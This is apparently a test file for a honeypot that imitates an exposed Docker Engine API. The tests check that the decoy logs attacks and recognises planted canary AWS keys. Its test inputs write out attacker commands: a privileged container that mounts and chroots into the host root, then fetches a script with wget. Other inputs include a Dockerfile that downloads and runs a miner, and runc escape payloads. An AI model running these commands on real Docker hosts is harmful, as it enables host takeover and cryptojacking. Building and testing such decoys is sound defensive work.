import { describe, expect, it } from 'vitest';
import { needTools, toolsIfPresent } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import type { Fact } from '../../core/observation.ts';
import { docker } from './docker.ts';
import { runProgram } from '../../../test/support/run-program.ts';

const persona = (): ReturnType<typeof personaWith> =>
  personaWith({ docker: { product: 'Docker Engine - Community', version: '20.10.24' } });

const post = (path: string, body: unknown): string => {
  const text = JSON.stringify(body);
  return `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${text.length}\r\n\r\n${text}`;
};
const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`;
const exploits = (facts: readonly Fact[]): string[] =>
  facts.flatMap((fact) => (fact.kind === 'exploit' ? [fact.name] : []));
const urls = (facts: readonly Fact[]): string[] =>
  facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []));

describe('the docker decoy before real clients', () => {
  // Debian has it with its engine alone, which nothing here wants.
  toolsIfPresent(['docker'])(
    'serves the docker command line: version, ps, run with a mount of the host, exec, logs, images, rm',
    async () => {
      await using served = await serveDecoy(docker, persona());
      const cli = (...words: string[]): Promise<string> =>
        runProgram('docker', '-H', `tcp://127.0.0.1:${served.port}`, ...words);
      expect(await cli('version')).toMatch(
        /Server: Docker Engine - Community\s+Engine:\s+Version: +20\.10\.24\s+API version: +1\.41/,
      );
      expect(await cli('info')).toContain('Server Version: 20.10.24');
      expect(await cli('ps')).toContain('postgres:13');
      const ran = await cli(
        'run',
        '-v',
        '/:/mnt',
        '--privileged',
        'alpine',
        'chroot',
        '/mnt',
        'sh',
        '-c',
        'id; wget http://198.51.100.7/x.sh',
      );
      expect(ran).toContain("Unable to find image 'alpine:latest' locally");
      expect(ran).toContain('Status: Downloaded newer image for alpine:latest');
      expect(ran).toContain('uid=0(root)');
      expect(urls(served.facts)).toContain('http://198.51.100.7/x.sh');
      expect(exploits(served.facts)).toContain('docker-host-mount');
      const name = (await cli('ps', '--format', '{{.Names}}')).trim().split('\n')[0] ?? '';
      expect(await cli('exec', name, 'sh', '-c', 'echo one; echo two >&2')).toMatch(/one\n?.*two/s);
      const id = (await cli('ps', '-a', '-q')).trim().split('\n')[0] ?? '';
      expect(await cli('logs', id)).toContain('uid=0(root)');
      expect(await cli('inspect', name)).toContain('"Status": "running"');
      expect(await cli('images')).toContain('alpine');
      expect(await cli('rm', id)).toContain(id);
      expect(await cli('network', 'ls')).toContain('bridge');
      expect(served.errors).toEqual([]);
    },
    60_000,
  );

  needTools(['nmap'])(
    'is taken by nmap for Docker of its version',
    async () => {
      await using served = await serveDecoy(docker, persona());
      // The plus sign has the script run on a port that is not 2375.
      const found = await runProgram(
        'nmap',
        '-Pn',
        '-sT',
        '--script',
        '+docker-version',
        '-p',
        String(served.port),
        '127.0.0.1',
      );
      expect(found).toMatch(/docker-version:[^]*Version: 20\.10\.24[^]*ApiVersion: 1\.41/);
      expect(served.errors).toEqual([]);
    },
    120_000,
  );
});

describe('the docker decoy', () => {
  it('refuses what the engine refuses, in its words', () => {
    const { text } = talk(docker, persona(), [
      octetsOf(get('/v1.99/info') + get('/v1.2/info') + get('/nothing') + get('/containers/none/json')),
    ]);
    expect(text).toContain(
      '{"message":"client version 1.99 is too new. Maximum supported API version is 1.41"}\n',
    );
    expect(text).toContain('{"message":"page not found"}\n');
    expect(text).toContain('{"message":"No such container: none"}\n');
    expect(text).toContain('Server: Docker/20.10.24 (linux)\r\n');
  });

  it('runs the steps of a Dockerfile that comes in a tar and keeps the context', () => {
    const file = 'FROM alpine\nRUN wget http://198.51.100.9/miner && sh miner\n';
    const head = Buffer.alloc(512);
    head.write('Dockerfile');
    head.write(file.length.toString(8).padStart(11, '0'), 124);
    const tar = Buffer.concat([head, Buffer.from(file.padEnd(512, '\0'))]).toString('latin1');
    const request = `POST /build?t=x HTTP/1.1\r\nHost: a\r\nContent-Length: ${tar.length}\r\n\r\n${tar}`;
    const { facts, text, outputs } = talk(docker, persona(), [octetsOf(request)]);
    expect(urls(facts)).toContain('http://198.51.100.9/miner');
    expect(text).toContain('Step 2/2 : RUN wget');
    expect(outputs.some((output) => output.do === 'capture' && output.how === 'docker-build')).toBe(true);
  });

  it('knows the ways out of runc by their numbers', () => {
    const create = (body: object): string => post('/containers/create', { Image: 'postgres:13', ...body });
    const { facts } = talk(docker, persona(), [
      octetsOf(create({ WorkingDir: '/proc/self/fd/8' }) + create({ Cmd: ['/proc/self/exe'] })),
    ]);
    const cves = facts.flatMap((fact) => (fact.kind === 'exploit' ? fact.cves : []));
    expect(cves).toEqual(['CVE-2024-21626', 'CVE-2019-5736']);
  });

  it('plants another credential for each source, and knows it when it comes back', () => {
    const environment = (source: string): string => {
      const list = talk(docker, persona(), [octetsOf(get('/containers/json'))], { source }).text;
      const id = /"Id":"([0-9a-f]{64})","Names":\["\/\w+_api_1"\]/.exec(list)?.[1] ?? '';
      const inspected = talk(docker, persona(), [octetsOf(get(`/containers/${id}/json`))], { source }).text;
      return /AKIA[A-Z2-7]{16}/.exec(inspected)?.[0] ?? '';
    };
    const one = environment('198.51.100.4');
    expect(one).not.toBe('');
    expect(environment('198.51.100.5')).not.toBe(one);
    const { facts } = talk(docker, persona(), [octetsOf(get(`/info?key=${one}`))], {
      source: '203.0.113.77',
    });
    expect(facts[0]).toMatchObject({
      kind: 'exploit',
      name: 'planted-credential',
      detail: 'AWS access key planted in a container environment for 198.51.100.4',
    });
  });

  it('gives the same for any split of any bytes', () => {
    holdsForAnyBytes(docker, persona, [
      octetsOf(get('/_ping')),
      octetsOf(get('/v1.41/info')),
      octetsOf(
        post('/v1.41/containers/create?name=x', {
          Image: 'postgres:13',
          Cmd: ['id'],
          HostConfig: { Privileged: true },
        }),
      ),
      octetsOf(post('/containers/x/start', {})),
      octetsOf(post('/containers/x/attach?stream=1', {})),
      octetsOf(get('/containers/x/logs?stdout=1')),
      octetsOf(post('/images/create?fromImage=alpine', {})),
      octetsOf(`POST /build HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n`),
    ]);
  });
});
